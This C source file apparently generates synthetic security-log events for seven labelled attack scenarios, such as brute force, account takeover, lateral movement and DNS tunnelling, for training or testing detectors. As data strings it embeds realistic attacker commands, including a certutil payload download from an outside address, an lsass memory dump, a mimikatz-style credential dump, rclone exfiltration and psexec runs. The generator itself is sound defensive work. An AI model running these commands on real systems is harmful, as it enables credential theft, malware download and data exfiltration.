/* sg_gen_attack: the seven attack scenarios as event plans. Each planner picks a moment that
 * suits the scenario (night for brute force, working hours for impossible travel, ...), then
 * emits the attacker's events with sensor scores drawn from the "attack" distribution (which
 * overlaps the benign one). Ground truth is the scenario tag kept on each planned event. */
#include "gen/sg_gen_attack.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "core/sg_mem.h"
#include "core/sg_rng.h"

#define N_OF(a) (sizeof(a) / sizeof((a)[0]))
#define MIN_MS INT64_C(60000)

static const char *const attack_uas[] = {
    "python-requests/2.31.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0",
    "curl/8.4.0",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 Chrome/96.0 Safari/537.36",
};
static const char *const exfil_domains[] = {"mega.nz", "transfer.sh", "file-drop.cc",
                                            "paste-bin.io", "anonfiles.example.net"};
static const char *const c2_domains[] = {"cdn-telemetry-sync.net", "update-check.info",
                                         "static-img-cache.com", "api-metrics-collector.org"};

struct ctx {
    struct sg_gen_user *u;
    struct sg_rng *r;
    struct sg_gen_plan *plan;
    int scenario;
    double scale;
    int64_t start, end;
};

static int64_t below(struct sg_rng *r, int64_t n)
{
    return n > 0 ? (int64_t)sg_rng_below(r, (uint64_t)n) : 0;
}

static int64_t between(struct sg_rng *r, int64_t lo, int64_t hi)
{
    return lo + below(r, hi - lo + 1);
}

static int64_t scaled(const struct ctx *c, int64_t lo, int64_t hi, int64_t min)
{
    int64_t n = (int64_t)((double)between(c->r, lo, hi) * c->scale + 0.5);
    return n < min ? min : n;
}

/* UTC instant of local day `lday`, hour `h`, plus `ms`. */
static int64_t local_at(const struct sg_gen_user *u, int64_t lday, int h, int64_t ms)
{
    return lday * SG_GEN_DAY_MS + h * SG_GEN_HOUR_MS + ms - (int64_t)u->tz_min * 60000;
}

/* A moment at local hour in [h_lo, h_hi) on a random day such that [t, t + dur) fits the
 * window; `weekday` asks for Monday..Friday, `home` for a day the user is not travelling. */
static int64_t pick_time(const struct ctx *c, int h_lo, int h_hi, int64_t dur, int weekday,
                         int home)
{
    int64_t first = sg_gen_model_lday(c->u, c->start), last = sg_gen_model_lday(c->u, c->end);
    int64_t t = c->start;
    for (int tries = 0; tries < 64; tries++) {
        int64_t lday = between(c->r, first, last);
        int h = h_lo + (int)below(c->r, (h_hi - h_lo + 24) % 24 ? (h_hi - h_lo + 24) % 24 : 24);
        t = local_at(c->u, lday, h % 24, below(c->r, SG_GEN_HOUR_MS));
        int wd = (int)((sg_gen_model_lday(c->u, t) + 4) % 7);
        if (t < c->start || t + dur >= c->end)
            continue;
        if (weekday && (wd == 0 || wd == 6))
            continue;
        if (home && (sg_gen_model_place_at(c->u, t) != c->u->home ||
                     sg_gen_model_place_at(c->u, t + dur) != c->u->home))
            continue;
        return t;
    }
    /* Narrow windows (a one-day history): anywhere that fits. */
    int64_t span = c->end - c->start - dur;
    return c->start + (span > 0 ? below(c->r, span) : 0);
}

static struct sg_gen_ev *push(struct ctx *c, int64_t t, uint16_t place, int type)
{
    struct sg_gen_plan *pl = c->plan;
    pl->ev = sg_xgrow(pl->ev, &pl->cap, pl->n + 1, sizeof *pl->ev);
    struct sg_gen_ev *ev = &pl->ev[pl->n++];
    sg_gen_model_base(c->u, t, place, ev);
    ev->type = (uint8_t)type;
    ev->scenario = (int8_t)c->scenario;
    ev->score = sg_gen_model_score(c->r, 1);
    return ev;
}

static void set_text(struct sg_gen_ev *ev, const char *a, const char *b)
{
    size_t na = strlen(a), nb = b ? strlen(b) : 0;
    if (na + nb >= sizeof ev->text)
        nb = sizeof ev->text - 1 - na;
    memcpy(ev->text, a, na);
    memcpy(ev->text + na, b ? b : "", nb);
    ev->text[na + nb] = '\0';
}

static uint16_t hostile_place(struct ctx *c, uint16_t home, double min_km)
{
    uint16_t cand[32];
    size_t n = 0;
    for (size_t i = 0; i < sg_gen_place_count && n < N_OF(cand); i++)
        if (sg_gen_places[i].kind == SG_PLACE_HOSTILE &&
            sg_gen_model_km(home, (uint16_t)i) >= min_km)
            cand[n++] = (uint16_t)i;
    if (!n) /* every hostile place is near home: take any far place */
        for (size_t i = 0; i < sg_gen_place_count && n < N_OF(cand); i++)
            if (sg_gen_model_km(home, (uint16_t)i) >= min_km)
                cand[n++] = (uint16_t)i;
    return n ? cand[below(c->r, (int64_t)n)] : (uint16_t)(sg_gen_place_count - 1);
}

static void auth_fail(struct sg_gen_ev *ev, const char *ip, const char *ua, int64_t attempt)
{
    memcpy(ev->src_ip, ip, 16);
    memcpy(ev->host, "vpn-gw-01", sizeof "vpn-gw-01");
    sg_gen_model_ip4(ev->dst_ip, 10, 0, 0, 10);
    ev->ua = ua;
    ev->status = 1;
    ev->s1 = "password";
    ev->s2 = "invalid_password";
    ev->n1 = attempt;
}

/* ---- the scenarios -------------------------------------------------------------------------- */

static void brute_force(struct ctx *c)
{
    uint16_t place = hostile_place(c, c->u->home, 0);
    char ip[16];
    sg_gen_model_public_ip(place, sg_rng_next(c->r), ip);
    const char *ua = attack_uas[below(c->r, 3)];
    int64_t n = scaled(c, 40, 150, 5);
    int night = sg_rng_double(c->r) < 0.6;
    int64_t t = pick_time(c, night ? 0 : 8, night ? 5 : 20, n * 20000, 0, 0);
    for (int64_t i = 0; i < n; i++) {
        t += 500 + (int64_t)sg_rng_exp(c->r, 6000);
        struct sg_gen_ev *ev = push(c, t, place, SG_GT_AUTH);
        auth_fail(ev, ip, ua, i + 1);
        if (i >= n - 3 && n > 10) {
            ev->status = 2;
            ev->s2 = "account_locked";
        }
    }
}

static void password_spray(struct ctx *c, uint64_t seed)
{
    /* One campaign for the whole run: same two-hour window and address pool for every victim. */
    struct sg_rng camp;
    sg_rng_seed2(&camp, seed, UINT64_C(0x5350524159));
    int64_t span = c->end - c->start - 3 * SG_GEN_HOUR_MS;
    int64_t t0 = c->start + (span > 0 ? (int64_t)sg_rng_below(&camp, (uint64_t)span) : 0);
    char pool[3][16];
    for (int i = 0; i < 3; i++)
        sg_gen_model_ip4(pool[i], 185, 220, 101, 10 + (unsigned)sg_rng_below(&camp, 240));
    uint16_t place = (uint16_t)(sg_gen_place_count - 1 - sg_rng_below(&camp, 4));
    int64_t n = scaled(c, 2, 6, 2);
    int64_t t = t0 + below(c->r, 2 * SG_GEN_HOUR_MS);
    for (int64_t i = 0; i < n && t < c->end - 6 * MIN_MS; i++) {
        t += 30000 + below(c->r, 5 * MIN_MS);
        struct sg_gen_ev *ev = push(c, t, place, SG_GT_AUTH);
        auth_fail(ev, pool[below(c->r, 3)], attack_uas[0], 1);
    }
}

/* An outbound connection from ev->src_ip to `dst`: `sent_median` bytes up. */
static void net_out(struct ctx *c, struct sg_gen_ev *ev, const char *dst, int port,
                    double sent_median)
{
    memcpy(ev->dst_ip, dst, 16);
    ev->s1 = "tcp";
    ev->s2 = "established";
    ev->n1 = between(c->r, 49152, 65535);
    ev->n2 = port;
    ev->n3 = sg_gen_model_lognormal(c->r, sent_median, 0.6);
    ev->n4 = sg_gen_model_lognormal(c->r, 20e3, 0.8);
    ev->n5 = sg_gen_model_lognormal(c->r, 1000 + sent_median / 2e3, 0.5);
}

static void proc_ev(struct ctx *c, int64_t t, uint16_t place, const char *name, const char *cmd,
                    const char *priv, int is_signed)
{
    struct sg_gen_ev *ev = push(c, t, place, SG_GT_PROC);
    ev->s1 = name;
    ev->s2 = priv;
    set_text(ev, cmd, NULL);
    ev->n1 = between(c->r, 1000, 65000);
    ev->n2 = between(c->r, 1, 999);
    ev->b1 = (int8_t)is_signed;
}

static void file_ev(struct ctx *c, int64_t t, uint16_t place, const char *dir, const char *file,
                    const char *op, double size_median)
{
    struct sg_gen_ev *ev = push(c, t, place, SG_GT_FILE);
    set_text(ev, dir, file);
    ev->s1 = op;
    ev->n1 = sg_gen_model_lognormal(c->r, size_median, 0.8);
    ev->b1 = 0;
    ev->b2 = 0;
}

static void dns_ev(struct ctx *c, int64_t t, uint16_t place, const char *name, const char *qtype)
{
    struct sg_gen_ev *ev = push(c, t, place, SG_GT_DNS);
    set_text(ev, name, NULL);
    sg_gen_model_ip4(ev->dst_ip, 10, 0, 0, 53);
    ev->s1 = qtype;
    ev->s2 = "NOERROR";
    ev->n1 = 0;
}

/* Same source address, user agent and device for every event of the attacker's session; the
 * device is not one of the user's hosts ("DESKTOP-" + 7 random characters, Windows style). */
static void stamp(struct ctx *c, size_t from, const char *ip, const char *ua)
{
    static const char chars[] = "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789";
    char host[16] = "DESKTOP-";
    for (int k = 0; k < 7; k++)
        host[8 + k] = chars[below(c->r, (int64_t)sizeof chars - 1)];
    host[15] = '\0';
    for (size_t i = from; i < c->plan->n; i++) {
        memcpy(c->plan->ev[i].src_ip, ip, 16);
        memcpy(c->plan->ev[i].host, host, sizeof host);
        c->plan->ev[i].ua = ua;
    }
}

static void takeover_activity(struct ctx *c, int64_t t, uint16_t place)
{
    static const struct {
        const char *name, *cmd;
        int is_signed;
    } cmds[] = {
        {"powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", 1},
        {"whoami.exe", "whoami /all", 1},
        {"net.exe", "net user /domain", 1},
        {"rclone", "rclone copy C:\\Users\\Public\\stage remote:bkp --transfers 8", 0},
        {"certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe", 1},
    };
    int64_t m = scaled(c, 15, 40, 4);
    char far_ip[16];
    sg_gen_model_public_ip(place, sg_rng_next(c->r), far_ip);
    for (int64_t i = 0; i < m; i++) {
        t += 10000 + (int64_t)sg_rng_exp(c->r, 90000);
        double x = sg_rng_double(c->r);
        if (x < 0.3) {
            size_t k = (size_t)below(c->r, N_OF(cmds));
            proc_ev(c, t, place, cmds[k].name, cmds[k].cmd, "standard", cmds[k].is_signed);
        } else if (x < 0.65) {
            file_ev(c, t, place, "\\\\fs01\\finance\\Payroll\\",
                    sg_rng_double(c->r) < 0.5 ? "salaries-2026.xlsx" : "bank-details.csv", "read",
                    4e6);
        } else if (x < 0.85) {
            dns_ev(c, t, place, exfil_domains[below(c->r, N_OF(exfil_domains))], "A");
        } else {
            net_out(c, push(c, t, place, SG_GT_NET), far_ip, 443, 20e6);
        }
    }
}

static void account_takeover(struct ctx *c)
{
    uint16_t place = hostile_place(c, c->u->home, 3000);
    char ip[16];
    sg_gen_model_public_ip(place, sg_rng_next(c->r), ip);
    const char *ua = attack_uas[1 + below(c->r, 3)];
    int64_t k = scaled(c, 6, 20, 2);
    int64_t t = pick_time(c, 20, 3, 4 * SG_GEN_HOUR_MS, 0, 0);
    for (int64_t i = 0; i < k; i++) {
        t += 20000 + below(c->r, 70000);
        auth_fail(push(c, t, place, SG_GT_AUTH), ip, ua, i + 1);
    }
    t += 20000 + below(c->r, 60000);
    struct sg_gen_ev *ok = push(c, t, place, SG_GT_AUTH);
    auth_fail(ok, ip, ua, k + 1);
    ok->status = 0;
    ok->s2 = NULL;
    t += 5000 + below(c->r, 20000);
    struct sg_gen_ev *mfa = push(c, t, place, SG_GT_AUTH);
    auth_fail(mfa, ip, ua, 1);
    mfa->status = 0;
    mfa->s1 = "mfa";
    mfa->s2 = NULL;
    size_t from = c->plan->n;
    takeover_activity(c, t, place);
    stamp(c, from, ip, ua);
}

static void impossible_travel(struct ctx *c)
{
    struct sg_gen_user *u = c->u;
    uint16_t far = hostile_place(c, u->home, 6000);
    int h0 = (u->work_start + 1) % 24, h1 = (u->work_start + u->work_len - 2) % 24;
    int64_t t = pick_time(c, h0, h1, 2 * SG_GEN_HOUR_MS, 1, 1);
    /* The user's own login at home shortly before: benign context, not part of the attack. */
    int64_t t_home = t - 10 * MIN_MS - below(c->r, 30 * MIN_MS);
    if (t_home >= c->start) {
        struct sg_gen_ev *ev = push(c, t_home, u->home, SG_GT_AUTH);
        ev->scenario = -1;
        ev->score = sg_gen_model_score(c->r, 0);
        sg_gen_model_ip4(ev->dst_ip, 10, 0, 0, 10);
        ev->s1 = "sso";
        ev->n1 = 1;
    }
    char ip[16], dst[16];
    sg_gen_model_public_ip(far, sg_rng_next(c->r), ip);
    sg_gen_model_public_ip(far, sg_rng_next(c->r), dst);
    const char *ua = attack_uas[1 + below(c->r, 3)];
    size_t from = c->plan->n;
    struct sg_gen_ev *ev = push(c, t, far, SG_GT_AUTH);
    auth_fail(ev, ip, ua, 1);
    ev->status = 0;
    ev->s2 = NULL;
    ev->s1 = "sso";
    int64_t m = scaled(c, 2, 8, 1);
    for (int64_t i = 0; i < m; i++) {
        t += 60000 + below(c->r, 8 * MIN_MS);
        if (sg_rng_double(c->r) < 0.5)
            file_ev(c, t, far, "\\\\fs01\\shared\\Projects\\", "roadmap-2027.pptx", "read", 3e6);
        else
            net_out(c, push(c, t, far, SG_GT_NET), dst, 443, 2e6);
    }
    stamp(c, from, ip, ua);
}

static void exfiltration(struct ctx *c)
{
    struct sg_gen_user *u = c->u;
    int64_t t = pick_time(c, 1, 4, 3 * SG_GEN_HOUR_MS, 0, 1);
    uint16_t home = u->home;
    int win = u->role == SG_ROLE_FINANCE || u->role == SG_ROLE_CONTRACTOR;
    static const char *const eng_files[] = {"customers.sql", "prod-secrets.env", "api-keys.json",
                                            "source-backup.tar"};
    static const char *const win_files[] = {"payroll-2026.xlsx", "customer-contracts.zip",
                                            "board-minutes.docx", "bank-accounts.csv"};
    const char *dir = win ? "\\\\fs01\\finance\\Reports\\" : "/srv/exports/";
    int64_t m = scaled(c, 10, 30, 3);
    for (int64_t i = 0; i < m; i++) {
        t += 2000 + (int64_t)sg_rng_exp(c->r, 20000);
        file_ev(c, t, home, dir, win ? win_files[below(c->r, 4)] : eng_files[below(c->r, 4)],
                "read", 30e6);
    }
    t += 30000;
    if (win)
        proc_ev(c, t, home, "7z.exe",
                "7z.exe a -mx1 -pInfected1 C:\\Users\\Public\\q.7z "
                "\\\\fs01\\finance\\Reports",
                "standard", 1);
    else
        proc_ev(c, t, home, "tar", "tar czf /tmp/.cache/.b.tgz /srv/exports", "standard", 1);
    t += 60000 + below(c->r, 120000);
    const char *dom = exfil_domains[below(c->r, N_OF(exfil_domains))];
    dns_ev(c, t, home, dom, "A");
    char dst[16];
    sg_gen_model_public_ip(hostile_place(c, home, 0), sg_rng_next(c->r), dst);
    int64_t k = scaled(c, 3, 10, 2);
    for (int64_t i = 0; i < k; i++) {
        t += 30000 + (int64_t)sg_rng_exp(c->r, 300000);
        net_out(c, push(c, t, home, SG_GT_NET), dst, 443, 300e6);
    }
}

static void lateral_movement(struct ctx *c)
{
    uint16_t home = c->u->home;
    int64_t t = pick_time(c, 19, 23, 5 * SG_GEN_HOUR_MS, 0, 0);
    static const struct {
        const char *name, *cmd, *priv;
        int is_signed;
    } recon[] = {
        {"whoami.exe", "whoami /priv", "standard", 1},
        {"net.exe", "net group \"domain admins\" /domain", "standard", 1},
        {"nltest.exe", "nltest /dclist:corp.internal", "standard", 1},
        {"procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp",
         "admin", 1},
        {"m64.exe", "m64.exe privilege::debug sekurlsa::logonpasswords exit", "system", 0},
    };
    for (size_t i = 0; i < N_OF(recon); i++) {
        t += 20000 + below(c->r, 120000);
        proc_ev(c, t, home, recon[i].name, recon[i].cmd, recon[i].priv, recon[i].is_signed);
    }
    int64_t hosts = scaled(c, 8, 30, 3);
    static const int ports[] = {445, 3389, 5985, 22};
    for (int64_t h = 0; h < hosts; h++) {
        unsigned a = (unsigned)between(c->r, 1, 250), b = (unsigned)between(c->r, 1, 250);
        char dst[16];
        sg_gen_model_ip4(dst, 10, 30, a, b);
        t += 30000 + (int64_t)sg_rng_exp(c->r, 240000);
        struct sg_gen_ev *ev = push(c, t, home, SG_GT_AUTH);
        memcpy(ev->dst_ip, dst, 16);
        ev->s1 = "ntlm";
        ev->n1 = 1;
        if (sg_rng_double(c->r) < 0.2) {
            ev->status = 1;
            ev->s2 = "invalid_password";
        }
        t += 1000 + below(c->r, 10000);
        net_out(c, push(c, t, home, SG_GT_NET), dst, ports[below(c->r, 4)], 200e3);
        t += 1000 + below(c->r, 20000);
        char cmd[96], *p = cmd;
        memcpy(p, "psexec.exe \\\\", 13);
        p += 13;
        size_t dn = strlen(dst);
        memcpy(p, dst, dn);
        p += dn;
        memcpy(p, " -s cmd.exe /c whoami", sizeof " -s cmd.exe /c whoami");
        proc_ev(c, t, home, "psexec.exe", cmd, h < 2 ? "admin" : "system", 1);
        /* the remote side of the execution happens on the target host */
        snprintf(c->plan->ev[c->plan->n - 1].host, sizeof c->plan->ev[0].host, "srv-%u-%u", a, b);
    }
}

static void dns_tunnel(struct ctx *c)
{
    static const char b32[] = "abcdefghijklmnopqrstuvwxyz234567";
    int64_t interval = between(c->r, 30000, 120000);
    int64_t dur = (int64_t)((double)between(c->r, 3, 8) * SG_GEN_HOUR_MS * c->scale);
    if (dur < 10 * interval)
        dur = 10 * interval;
    int64_t t = pick_time(c, 0, 24, dur, 0, 0);
    size_t d = (size_t)below(c->r, N_OF(c2_domains));
    char c2ip[16];
    sg_gen_model_public_ip(hostile_place(c, c->u->home, 0), sg_rng_next(c->r), c2ip);
    uint16_t home = c->u->home;
    for (int64_t k = 0; t < c->end && k * interval < dur; k++) {
        t += interval + (int64_t)((double)interval * 0.05 * sg_rng_normal(c->r));
        char name[160];
        size_t n = (size_t)between(c->r, 32, 52);
        for (size_t i = 0; i < n; i++)
            name[i] = b32[sg_rng_below(c->r, 32)];
        name[n] = '.';
        size_t dl = strlen(c2_domains[d]);
        memcpy(name + n + 1, c2_domains[d], dl + 1);
        dns_ev(c, t, home, name, "TXT");
        if (k % 5 == 4)
            net_out(c, push(c, t + 200, home, SG_GT_NET), c2ip, 443, 1500);
    }
}

/* Stable insertion sort: plans are short and nearly sorted, and a stable order keeps the
 * output identical on every libc (qsort is not stable). */
static void sort_plan(struct sg_gen_plan *plan)
{
    for (size_t i = 1; i < plan->n; i++) {
        if (plan->ev[i - 1].ts <= plan->ev[i].ts)
            continue;
        struct sg_gen_ev tmp = plan->ev[i];
        size_t j = i;
        while (j > 0 && plan->ev[j - 1].ts > tmp.ts) {
            plan->ev[j] = plan->ev[j - 1];
            j--;
        }
        plan->ev[j] = tmp;
    }
}

void sg_gen_attack_plan(struct sg_gen_user *u, int scenario, double scale, int64_t start_ms,
                        int64_t end_ms, uint64_t seed, struct sg_gen_plan *plan)
{
    /* Its own stream: re-planning at another scale must not disturb the user's benign draws. */
    struct sg_rng r;
    sg_rng_seed2(&r, seed ^ UINT64_C(0x41545441434b), u->idx);
    struct ctx c = {u, &r, plan, scenario, scale, start_ms, end_ms};
    switch (scenario) {
    case SG_SCN_BRUTE_FORCE: brute_force(&c); break;
    case SG_SCN_PASSWORD_SPRAY: password_spray(&c, seed); break;
    case SG_SCN_ACCOUNT_TAKEOVER: account_takeover(&c); break;
    case SG_SCN_IMPOSSIBLE_TRAVEL: impossible_travel(&c); break;
    case SG_SCN_EXFILTRATION: exfiltration(&c); break;
    case SG_SCN_LATERAL_MOVEMENT: lateral_movement(&c); break;
    default: dns_tunnel(&c); break;
    }
    /* Keep the window: drop whatever a scenario pushed past its end, then sort. */
    size_t w = 0;
    for (size_t i = 0; i < plan->n; i++)
        if (plan->ev[i].ts >= start_ms && plan->ev[i].ts < end_ms)
            plan->ev[w++] = plan->ev[i];
    plan->n = w;
    sort_plan(plan);
}

void sg_gen_attack_release(struct sg_gen_plan *plan)
{
    free(plan->ev);
    plan->ev = NULL;
    plan->n = plan->cap = 0;
}
